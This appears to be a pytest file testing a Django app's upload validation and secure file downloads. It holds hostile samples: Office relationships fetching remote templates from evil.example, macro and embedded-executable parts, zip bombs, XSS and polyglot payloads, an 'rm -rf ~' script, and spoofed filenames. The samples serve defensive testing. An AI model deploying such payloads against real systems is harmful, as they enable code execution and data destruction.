"""What could run: in a browser, in an office program, or by its name on a reader's computer."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accounts.models import User
from countries.models import FocalPoint
from files import content_type, office_scan
from files.models import Attachment, attach_file
from tests import make
from tests.make import People

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
    ' Extension="xml" ContentType="{}"/></Types>'
)
LINK = (
    "<Relationships"
    ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"'
    ' TargetMode="External"/></Relationships>'
)
SPREADSHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OPEN_TEXT = {"mimetype": office_scan.OPEN_DOCUMENT[0], "content.xml": "<x/>"}


def packed(parts: dict[str, str | bytes]) -> bytes:
    """An archive of these parts."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return body.getvalue()


def word(**parts: Any) -> bytes:
    """A Word document with more parts; `__` in a name stands for a slash, `_dot_` for a dot."""
    more = {
        name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()
    }
    return packed(
        {
            "[Content_Types].xml": TYPES.format("application/xml"),
            "word/document.xml": "<w/>",
            **more,
        }
    )


def check(body: bytes, name: str) -> None:
    """As a form does."""
    content_type.check_upload(SimpleUploadedFile(name, body))


def locked(body: bytes) -> bytes:
    """Every entry marked as encrypted."""
    out = bytearray(body)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = body.find(mark)
        while place >= 0:
            out[place + at] |= 1
            place = body.find(mark, place + 4)
    return bytes(out)


@pytest.mark.parametrize(
    "body",
    [
        word(word__vbaProject_dot_bin=b"x"),
        word(word__VBAPROJECT_dot_BIN=b"x"),
        word(word__harmless_dot_bin=office_scan.OLE + b"VBA"),
        word(word__embeddings__oleObject1_dot_bin=office_scan.OLE),
        word(word__embeddings__run_dot_exe=b"x"),
        word(word__media__image1_dot_png=b"MZ\x90"),
        word(word__afchunk_dot_html="<script>"),
        word(word__activeX__activeX1_dot_xml="<x/>"),
        word(word__embeddings__inner_dot_docx=word(word__vbaProject_dot_bin=b"x")),
        word(word__embeddings__inner_dot_zip=packed({"run.exe": b"x"})),
        packed(
            {
                "[Content_Types].xml": TYPES.format(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                ),
                "word/document.xml": "<w/>",
            }
        ),
        packed(
            {
                "[Content_Types].xml": TYPES.format("application/xml"),
                "xl/workbook.xml": "<x/>",
                "xl/macrosheets/sheet1.xml": "<x/>",
            }
        ),
        packed(
            {
                "[Content_Types].xml": TYPES.format("application/xml"),
                "xl/workbook.xml": "<x/>",
                "xl/externalLinks/externalLink1.xml": f"<ddeLink {SPREADSHEET}/>",
            }
        ),
        word(
            word___rels__settings_dot_xml_dot_rels=LINK.format(
                "attachedTemplate", "https://evil.example/t.dotm"
            )
        ),
        word(
            word___rels__settings_dot_xml_dot_rels=LINK.format(
                "attachedTemplate", r"\\evil.example\t.dotm"
            )
        ),
        word(
            word___rels__settings_dot_xml_dot_rels=LINK.format(
                "attachedTemplate", "file://evil.example/t.dotm"
            )
        ),
        word(
            word___rels__document_dot_xml_dot_rels=LINK.format(
                "oleObject", "mhtml:https://evil.example/x!x"
            )
        ),
        word(word___rels__document_dot_xml_dot_rels=LINK.format("frame", "https://evil.example/")),
        word(
            word___rels__document_dot_xml_dot_rels='<!DOCTYPE x [<!ENTITY a "b">]>'
            + LINK.format("hyperlink", "&a;")
        ),
        word(
            word___rels__document_dot_xml_dot_rels=LINK.format(
                "oleObject", "https://evil.example/"
            ).encode("utf-16")
        ),
        word(word__Document_dot_xml="<other/>"),
        locked(word()),
        packed({**OPEN_TEXT, "Basic/Standard/Module1.xml": "<x/>"}),
        packed({**OPEN_TEXT, "Scripts/python/x.py": "x"}),
        packed({**OPEN_TEXT, "Object 1": office_scan.OLE}),
        packed({**OPEN_TEXT, "META-INF/manifest.xml": "<manifest:encryption-data/>"}),
    ],
)
def test_office_files_that_are_locked_run_or_fetch_something_are_refused(body: bytes) -> None:
    with pytest.raises(
        ValidationError,
        match=(
            r"“letter\.docx” is locked with a password, or holds macros.*Save it without them, or"
            r" as PDF"
        ),
    ):
        check(body, "letter.docx")


@pytest.mark.parametrize(
    "body",
    [
        word(
            word___rels__document_dot_xml_dot_rels=LINK.format(
                "hyperlink", "https://www.example.org/"
            )
        ),
        word(
            word___rels__settings_dot_xml_dot_rels=LINK.format(
                "attachedTemplate", r"file:///C:\Users\jane\Templates\Letter.dotx"
            )
        ),
        word(
            word__embeddings__chart_dot_xlsx=packed(
                {"[Content_Types].xml": TYPES.format("application/xml"), "xl/workbook.xml": "<x/>"}
            )
        ),
        word(word__media__image1_dot_png=b"\x89PNG", word__fonts__font1_dot_odttf=b"x"),
        packed(
            {
                "[Content_Types].xml": TYPES.format("application/xml"),
                "xl/workbook.xml": "<x/>",
                "xl/printerSettings/printerSettings1.bin": b"H\0P\0",
            }
        ),
        packed(
            {
                **OPEN_TEXT,
                "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:manifest/>',
                "Configurations2/": "",
            }
        ),
    ],
)
def test_office_files_as_people_write_them_are_taken(body: bytes) -> None:
    check(body, "letter.docx")


def test_archives_that_unpack_to_very_much_or_have_very_many_parts_are_refused() -> None:
    zeros = bytes(60 * 1024 * 1024)
    bomb = word(**{f"word__part{n}_dot_xml": zeros for n in range(9)})
    assert len(bomb) < 1_000_000
    many = word(**{f"word__part{n}_dot_xml": b"" for n in range(office_scan.MOST_ENTRIES)})
    for body in (bomb, many):
        with pytest.raises(ValidationError, match="is not of a kind"):
            check(body, "letter.docx")


def relationships(count: int) -> str:
    """A part with so many links to addresses of mail."""
    link = LINK.format("hyperlink", "mailto:somebody@interior.example")
    begin, end = link.index("<Relationship "), link.index("</Relationships>")
    return link[:begin] + link[begin:end] * count + link[end:]


SHEET = {"[Content_Types].xml": TYPES.format("application/xml"), "xl/workbook.xml": "<x/>"}


def test_a_long_list_of_addresses_and_what_was_taken_from_other_files_are_taken() -> None:
    parts = {f"xl/externalLinks/externalLink{n}.xml": "<c/>" * 1_500_000 for n in range(5)}
    check(
        packed({**SHEET, **parts, "xl/worksheets/_rels/sheet1.xml.rels": relationships(9000)}),
        "list.xlsx",
    )


# just what one part may have in bytes, and more elements than a file may have
LONG = b"<r>" + b"<a/>" * 500_000 + b"</r>"
WIDE = b"<r " + b" ".join(b'a%x=""' % n for n in range(190_000)) + b"/>"  # the same of attributes
TEXT = b"<r>" + b"x" * 2_000_000 + b"</r>"


def holding(*inner: bytes) -> bytes:
    """A Word document with documents in it."""
    return word(**{f"word__embeddings__i{n}_dot_docx": one for n, one in enumerate(inner)})


@pytest.mark.parametrize(
    "made",
    [
        lambda: holding(
            word(
                a_dot_rels=b"<r>" + b"<a/>" * 2_000_000 + b"</r>",
                b_dot_rels=b"<r>" + b"<a/>" * 2_000_000 + b"</r>",
            )
        ),
        lambda: word(a_dot_rels=TEXT * 2),
        lambda: packed({"[Content_Types].xml": b" " * 4_000_000, "word/document.xml": "<w/>"}),
        lambda: holding(word(a_dot_rels=LONG)),
        lambda: holding(*[word(a_dot_rels=relationships(5000))] * 12),
        lambda: holding(*[word(a_dot_rels=WIDE)] * 2),
        lambda: holding(*[word(a_dot_rels=TEXT, b_dot_rels=TEXT)] * 20),
        lambda: holding(*[word(**{f"p{n}": b"" for n in range(1000)})] * 10),
        lambda: holding(*[word(word__part=bytes(50 * 1024 * 1024))] * 10),
        lambda: word(
            a_dot_rels=b'<?xml version="1.0" encoding="cp037"?>'
            + LINK.format("hyperlink", "x").encode("cp037")
        ),
    ],
)
def test_what_lies_in_a_document_counts_with_the_rest_of_the_file(
    made: Callable[[], bytes],
) -> None:
    body = made()
    assert len(body) < 3_000_000
    with pytest.raises(ValidationError, match=r"Save it without them, or as PDF"):
        check(body, "letter.docx")


@pytest.mark.parametrize("part, count", [(LONG, 4), (WIDE, 2), (TEXT, 40)])
def test_parts_that_would_take_long_to_read_are_refused_though_they_are_small_when_packed(
    part: bytes, count: int
) -> None:
    body = packed({**SHEET, **{f"r{n}.rels": part for n in range(count)}})
    with pytest.raises(ValidationError, match="is not of a kind"):
        check(body, "list.xlsx")


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("notes.txt", b"<html><script>alert(1)</script>"),
        ("notes.txt", b"\xef\xbb\xbf \r\n <!DOCTYPE html>"),
        ("list.csv", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
        ("list.csv", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("notes.txt", b"GIF89a=1;alert(1)"),
        ("notes.txt", b"#!/bin/sh\nrm -rf ~"),
        ("notes.txt", b"{\\rtf1 }"),
        ("notes.txt", b"+\0A\0D\0w"),
        ("notes.csv", "<script>".encode("utf-16")),
        ("letter.pdf", b"<html><script>alert(1)</script><!--\n%PDF-1.7\n"),
        ("letter.pdf", b"\n%PDF-1.7\n"),
        ("scan.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
        ("scan.png", b"<svg onload='alert(1)'/>\x89PNG\r\n\x1a\n"),
        ("letter.docx", b"<script>alert(1)</script>" + word()),
        ("letter.pdf", office_scan.OLE + bytes(600)),
        ("run.js", b"alert(1)"),
        ("letter.txt.html", b"words"),
    ],
)
def test_pages_and_programs_under_another_name_are_refused(name: str, body: bytes) -> None:
    with pytest.raises(ValidationError, match="is not of a kind"):
        check(body, name)


def test_figures_and_words_that_only_look_alike_are_taken() -> None:
    check(b"<5 %,12\n>10 %,3\n", "list.csv")
    check("Écrit à la main: a < b".encode(), "notes.txt")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("letter.hta", "letter.hta.pdf"),
        ("letter.pdf.exe", "letter.pdf.exe.pdf"),
        ("letter", "letter.pdf"),
        ("LETTER.PDF", "LETTER.PDF"),
        ("letter\u202efdp.js", "letterfdp.js.pdf"),
        ("letter.exe\0.pdf", "letter.exe.pdf"),
        ("letter.pdf" + " " * 200 + ".cmd", "letter.pdf.pdf"),
        ("../../" + "é" * 300 + ".html", "é" * 146 + ".pdf"),
        ("a\u2028b.pdf", "ab.pdf"),
    ],
)
def test_a_name_ends_as_the_content_is(people: People, given: str, kept: str) -> None:
    case = make.submitted(people.kenya)
    upload = make.pdf()
    upload._name = given  # type: ignore[attr-defined] # Django's own cleaning of names is not relied on
    assert attach_file("request", case.pk, upload, people.kenya).name == kept


def answers(reader: User, attachment: Attachment) -> list[Any]:
    """To a download, its head alone, and a part of it."""
    client = Client()
    client.force_login(reader)
    address = attachment.get_absolute_url()
    return [
        client.get(address),
        client.head(address),
        client.get(address, headers={"range": "bytes=0-3"}),
        client.get(address, {"inline": "1"}),
    ]


@pytest.mark.django_db
def test_no_way_of_asking_makes_a_browser_show_a_file(people: People) -> None:
    case = make.submitted(people.kenya)
    kept = attach_file(
        "request", case.pk, SimpleUploadedFile("a'b é %22 信.txt", b"words"), people.kenya
    )
    for answer in answers(people.officer, kept):
        assert (
            answer.status_code == 200
            and answer["Content-Type"] == "text/plain"
            and answer["X-Content-Type-Options"] == "nosniff"
        )
        assert answer["Content-Disposition"].startswith(
            "attachment; filename*=utf-8''a%27b%20%C3%A9%20%2522%20%E4%BF%A1.txt"
        )
        assert (
            answer["Content-Security-Policy"].startswith("default-src 'none'; sandbox")
            and "no-store" in answer["Cache-Control"]
        )


@pytest.mark.django_db
def test_who_may_not_see_a_file_gets_the_same_404_however_they_ask(people: People) -> None:
    """Of another country, of a draft, not shared, and of people whose designation has ended."""
    former = make.focal_point("KEN")
    case = make.submitted(people.kenya)
    letter = attach_file("request", case.pk, make.pdf(), people.kenya)
    draft = attach_file("request", make.draft(people.kenya).pk, make.pdf(), people.kenya)
    engagement = make.engagement(people.officer, make.part(KEN={"women": 1, "men": 1}))
    inside = attach_file("engagement", engagement.pk, make.pdf(), people.officer, shared=False)
    shared = attach_file("engagement", engagement.pk, make.pdf(), people.officer)
    assert all(a.status_code == 200 for f in (letter, shared) for a in answers(former, f))
    FocalPoint.objects.filter(user=former).update(valid_until=date(2021, 1, 1))
    former = User.objects.get(pk=former.pk)
    hidden = [(people.fiji, f) for f in (letter, draft, inside, shared)] + [
        (people.kenya, inside),
        (people.officer, draft),
    ]
    for reader, attachment in hidden + [(former, f) for f in (letter, draft, inside, shared)]:
        for answer in answers(reader, attachment):
            assert answer.status_code == 404 and "Content-Disposition" not in answer


@pytest.mark.django_db
def test_a_file_whose_bytes_are_gone_is_404_and_logged(people: People, caplog: Any) -> None:
    case = make.submitted(people.kenya)
    kept = attach_file("request", case.pk, make.pdf(), people.kenya)
    kept.content.storage.delete(kept.content.name)
    assert [a.status_code for a in answers(people.officer, kept)] == [404] * 4
    assert f"file {kept.pk} are missing" in caplog.text
